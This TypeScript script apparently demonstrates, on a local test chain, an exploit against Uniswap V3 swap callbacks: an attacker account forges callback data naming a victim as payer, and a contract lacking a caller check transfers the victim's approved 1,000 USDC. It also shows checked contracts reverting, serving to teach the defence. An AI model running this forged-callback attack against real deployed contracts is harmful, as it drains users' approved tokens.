import {
  BaseError,
  ContractFunctionRevertedError,
  encodeAbiParameters,
  parseAbi,
  parseAbiParameters,
  parseUnits,
  type Address,
} from 'viem';
import {client, clientOf, confirm, run} from '../../../support/chain';
import {deploy} from '../../../support/contract';
import {erc20Abi, show, usdc} from '../support/tokens';
import {factoryAddress, poolKey} from './support/pool';

const callbackAbi = parseAbi([
  'function uniswapV3MintCallback(uint256 amount0Owed, uint256 amount1Owed, bytes data)',
  'function uniswapV3SwapCallback(int256 amount0Delta, int256 amount1Delta, bytes data)',
]);
const paymentParameters = parseAbiParameters([
  'struct PoolKey { address token0; address token1; uint24 fee; }',
  'struct Payment { PoolKey poolKey; address payer; }',
  'Payment payment',
]);

/** Two contracts that check their caller and one that does not, to all of which a user approved. */
async function prepareTargets(amount: bigint) {
  const checked = await deploy(
    {file: 'examples/v3/reference/core/PoolTrader.sol', contract: 'PoolTrader'},
    [factoryAddress],
  );
  const provider = await deploy(
    {file: 'examples/v3/reference/core/PoolProvider.sol', contract: 'PoolProvider'},
    [factoryAddress, poolKey],
  );
  const unchecked = await deploy({
    file: 'examples/v3/reference/core/UncheckedTrader.sol',
    contract: 'UncheckedTrader',
  });
  for (const target of [checked, provider, unchecked]) {
    const approval = {address: usdc.address, abi: erc20Abi, functionName: 'approve'} as const;
    await confirm(await client.writeContract({...approval, args: [target, amount]}));
  }
  return {checked, provider, unchecked};
}

async function reasonOf(call: Promise<unknown>): Promise<string> {
  try {
    await call;
  } catch (error) {
    const revert =
      error instanceof BaseError &&
      error.walk((cause) => cause instanceof ContractFunctionRevertedError);
    if (!(revert instanceof ContractFunctionRevertedError)) throw error;
    return revert.raw && revert.raw !== '0x' ? `"${revert.reason}"` : 'no reason';
  }
  throw new Error('the call was expected to revert, and passed');
}

const balanceOf = (account: Address) =>
  client.readContract({
    address: usdc.address,
    abi: erc20Abi,
    functionName: 'balanceOf',
    args: [account],
  });

run(async () => {
  const amount = parseUnits('1000', usdc.decimals);
  const {checked, provider, unchecked} = await prepareTargets(amount);
  const attacker = clientOf(9);
  const callback = {abi: callbackAbi, functionName: 'uniswapV3SwapCallback'} as const;

  // #region attack
  const victim = client.account.address;
  // The attacker invents a swap: the victim owes 1,000 USDC, to whoever calls.
  const data = encodeAbiParameters(paymentParameters, [{poolKey, payer: victim}]);
  const claim = {...callback, args: [amount, 0n, data]} as const;

  const refusal = await reasonOf(attacker.simulateContract({...claim, address: checked}));
  console.log(`with the check     reverts with ${refusal}`);

  const before = await balanceOf(victim);
  await confirm(await attacker.writeContract({...claim, address: unchecked}));
  const lost = before - (await balanceOf(victim));
  console.log(`without the check  the victim lost ${show(lost, usdc)}`);
  // #endregion attack

  // #region attack-mint
  const maxima = encodeAbiParameters(parseAbiParameters('uint256, uint256'), [amount, 0n]);
  const debt = {
    address: provider,
    abi: callbackAbi,
    functionName: 'uniswapV3MintCallback',
    args: [amount, 0n, maxima],
  } as const;
  console.log(`mint callback      reverts with ${await reasonOf(attacker.simulateContract(debt))}`);
  // #endregion attack-mint
});
